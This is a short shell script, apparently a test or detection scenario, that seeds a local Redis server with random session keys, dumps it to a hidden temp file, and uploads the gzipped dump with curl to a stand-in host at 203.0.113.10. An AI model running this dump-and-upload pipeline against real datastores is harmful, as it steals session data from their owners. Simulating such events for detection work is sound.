#!/bin/sh
. /opt/case/case.sh

cd /srv && redis-server --save '' --daemonize yes >/dev/null && sleep 0.5
for i in $(seq 300); do echo "set session:$i $(head -c 600 /dev/urandom | base64 -w0)"; done | redis-cli >/dev/null
redis-cli --rdb /tmp/.d.rdb >/dev/null 2>&1
gzip -c /tmp/.d.rdb | curl -sf -T - -o /dev/null http://203.0.113.10/in/d
redis-cli shutdown nosave || true
took_place
